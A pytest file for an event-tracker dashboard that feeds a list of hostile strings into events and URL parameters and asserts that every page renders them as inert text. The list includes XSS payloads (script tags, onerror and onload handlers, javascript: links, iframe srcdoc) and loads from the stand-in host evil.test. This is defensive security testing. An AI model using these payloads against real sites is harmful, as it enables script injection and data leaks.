"""Events and links of an attacker: their texts are shown as text, run nothing, and cause no request to another host."""

import uuid
from datetime import UTC, datetime, timedelta

import pytest

from event_tracker.dashboard.filters.grammar import Condition

RUN = "window.hacked = 1"
HOSTILE = [
    f'<img src=x onerror="{RUN}">',
    f"<script>{RUN}</script>",
    f'"><svg onload={RUN.replace(" ", "")}>',
    f"[click](javascript:{RUN.replace(' ', '')})",
    "![picture](http://evil.test/pixel.png)",
    f'<iframe srcdoc="<script>parent.{RUN}</script>">',
    "<a href='http://evil.test/'>a</a><style>@import 'http://evil.test/a.css'</style>",
    ":material/home: :red[red] $\\href{javascript:window.hacked=1}{x}$ :small[x] # heading",
    "</script><script src=http://evil.test/x.js></script>",
    '=HYPERLINK("http://evil.test/")',
]
PAGES = ["", "users", "funnels", "retention", "journeys", "sessions", "explore"]


def hostile_events():
    """Make events of three days, in which all names and values are hostile texts."""
    now = datetime.now(UTC).replace(hour=3, minute=0, second=0, microsecond=0)
    return [
        {
            "user_id": user,
            "event_type": kind,
            "timestamp": (now - timedelta(days=day) + timedelta(minutes=number)).isoformat(),
            "event_id": str(uuid.uuid4()),
            "session_id": user,
            "properties": {"page": kind, kind: user},
        }
        for day in (1, 2, 3)
        for user in HOSTILE
        for number, kind in enumerate(HOSTILE)
    ]


@pytest.fixture(scope="module")
def hostile(serve_events):
    with serve_events(hostile_events()) as dashboard:
        yield dashboard


def require_harmless(page):
    """`visit` says in the end whether any other host was asked, or the policy had to step in."""
    assert page.evaluate("typeof window.hacked") == "undefined"
    active = "[onerror], [onload], a[href^='javascript:' i], [src*='evil.test'], iframe[srcdoc]"
    assert page.locator(active).count() == 0
    # Plotly makes links of what looks like one. Their attribute is one that a selector can't name.
    links = "[...document.querySelectorAll('.js-plotly-plot a')].map(link => link.href.baseVal)"
    assert [link for link in page.evaluate(links) if link.startswith("http://evil.test")] == []


@pytest.mark.parametrize("path", PAGES)
def test_what_events_hold_is_text(visit, hostile, path):
    state = {
        "": {"filter": Condition("event_type", "one_of", tuple(HOSTILE[5:8])).short},  # few enough to have a line each
        "journeys": {"start": HOSTILE[6]},
        "funnels": {"step1": HOSTILE[0], "step2": HOSTILE[4], "window": "1 hour"},
        "explore": {"filter": [f"event_type:is:{HOSTILE[0]}", HOSTILE[1]]},
    }
    visitor = visit(hostile).open(path, range="30 days", **state.get(path, {}))
    require_harmless(visitor.page)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_link_holds_is_text(visit, hostile, text):
    visitor = visit(hostile)
    for path in ("users", "funnels"):
        visitor.open(path, range="30 days", user=text, step1=text, step2=text, type=text, source=text)
        require_harmless(visitor.page)


def test_a_user_with_a_hostile_name_is_shown_by_that_name(visit, hostile):
    visitor = visit(hostile).open("users", range="30 days", user=HOSTILE[0])
    visitor.page.get_by_text(HOSTILE[0]).first.wait_for(state="attached")
    require_harmless(visitor.page)
